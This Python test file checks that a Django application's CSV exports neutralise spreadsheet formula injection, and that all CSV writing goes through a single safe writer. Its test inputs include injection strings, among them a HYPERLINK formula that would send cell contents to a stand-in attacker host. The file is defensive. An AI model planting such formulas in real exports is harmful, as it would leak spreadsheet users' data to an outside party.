"""Issue 12, item 6: every CSV export is formula-safe, through the one writer."""

import ast
import csv as stdlib_csv
import io
import re
from datetime import date
from decimal import Decimal
from pathlib import Path

import pytest

from essor.core.csv import csv_response, safe_cell, streaming_csv_response, write_csv


@pytest.mark.parametrize(
    "dangerous",
    ['=HYPERLINK("http://x";"clic")', "+33 5 55", "-2+3", "@SUM(A1)", "\tcmd", "\rcmd", "  =1+1"],
)
def test_a_text_cell_that_a_spreadsheet_would_run_is_neutralised(dangerous):
    assert safe_cell(dangerous) == "'" + dangerous


def test_harmless_values_are_written_as_they_are():
    assert safe_cell("Les Ateliers") == "Les Ateliers"
    assert safe_cell(-3) == -3
    assert safe_cell(Decimal("-1.50")) == Decimal("-1.50")
    assert safe_cell(None) == ""
    assert safe_cell(True) == "oui"
    assert safe_cell(date(2026, 3, 1)) == "2026-03-01"
    # Only the first character of a cell makes a formula.
    assert safe_cell(["a", "=b"]) == "a|=b"


def test_a_list_is_joined_and_checked_as_one_cell():
    assert safe_cell(["=1", "b"]) == "'=1|b"


def read(text):
    assert text.startswith("\ufeff")
    return list(stdlib_csv.reader(io.StringIO(text[1:]), delimiter=";"))


def test_the_response_is_an_excel_friendly_attachment():
    response = csv_response(["nom", "ville"], [["=1+1", "Limoges"]], "essai.csv")
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="essai.csv"'
    assert response["X-Content-Type-Options"] == "nosniff"
    assert read(response.content.decode()) == [["nom", "ville"], ["'=1+1", "Limoges"]]


def test_the_streaming_response_reads_its_rows_lazily():
    consumed = []

    def rows():
        for n in range(3):
            consumed.append(n)
            yield [n, f"@{n}"]

    response = streaming_csv_response(["n", "x"], rows(), "gros.csv")
    assert consumed == []
    text = b"".join(response.streaming_content).decode()
    assert read(text)[1:] == [["0", "'@0"], ["1", "'@1"], ["2", "'@2"]]


def test_write_csv_fills_a_file_and_counts_the_rows():
    buffer = io.BytesIO()
    assert write_csv(buffer, ["a"], [["x"], ["-y"]]) == 2
    assert read(buffer.getvalue().decode()) == [["a"], ["x"], ["'-y"]]


# --- Guard -------------------------------------------------------------------------------

ESSOR = Path(__file__).resolve().parents[1] / "essor"
WRITER = ESSOR / "core" / "csv.py"
CSV_WRITING = re.compile(r"csv\.(writer|DictWriter)\b|\bDictWriter\(|from csv import .*writer")


def test_no_module_writes_csv_except_the_one_writer():
    offenders = [
        f"{path.relative_to(ESSOR.parent)}:{number}"
        for path in ESSOR.rglob("*.py")
        if path != WRITER
        for number, line in enumerate(path.read_text().splitlines(), 1)
        if CSV_WRITING.search(line)
    ]
    assert offenders == [], "write CSV with essor.core.csv (formula-safe, ';', BOM)"


# --- Regression: the funders' export -----------------------------------------------------


@pytest.mark.django_db
def test_a_formula_in_a_dossier_title_comes_out_of_the_funders_export_as_text(client):
    from django.urls import reverse

    from essor.financing import services
    from tests.factories.financing import applicant, funder_member, ready_dossier

    funder_user, funder = funder_member()
    applicant_user, organisation = applicant()
    dossier = ready_dossier(organisation, applicant_user, [funder])
    dossier.title = '=HYPERLINK("http://attaquant.example/?"&A1;"Voir")'
    dossier.save()
    services.dossier_submit(dossier=dossier, user=applicant_user)
    client.force_login(funder_user)

    response = client.get(reverse("financing:requests_csv"))
    rows = read(b"".join(response.streaming_content).decode())

    assert rows[1][3] == "'" + dossier.title


READING_ONLY = {"reader", "DictReader", "Error", "field_size_limit", "Sniffer", "QUOTE_NONE"}


def _stdlib_csv_uses(tree):
    """Names taken from the standard csv module, whatever it was imported as."""
    aliases, used = set(), set()
    for node in ast.walk(tree):
        if isinstance(node, ast.Import):
            aliases |= {a.asname or a.name for a in node.names if a.name == "csv"}
        elif isinstance(node, ast.ImportFrom) and node.module == "csv" and not node.level:
            used |= {a.name for a in node.names}
    for node in ast.walk(tree):
        if (
            isinstance(node, ast.Attribute)
            and isinstance(node.value, ast.Name)
            and node.value.id in aliases
        ):
            used.add(node.attr)
    return used


def test_no_module_uses_the_standard_csv_module_to_write_even_under_another_name():
    offenders = {
        str(path.relative_to(ESSOR.parent)): sorted(uses - READING_ONLY)
        for path in ESSOR.rglob("*.py")
        if path != WRITER
        for uses in [_stdlib_csv_uses(ast.parse(path.read_text()))]
        if uses - READING_ONLY
    }
    assert offenders == {}, "write CSV with essor.core.csv (formula-safe, ';', BOM)"


def test_the_ast_guard_sees_an_aliased_writer():
    tree = ast.parse("import csv as c\nw = c.writer(f)\nfrom csv import DictWriter\n")
    assert _stdlib_csv_uses(tree) - READING_ONLY == {"writer", "DictWriter"}
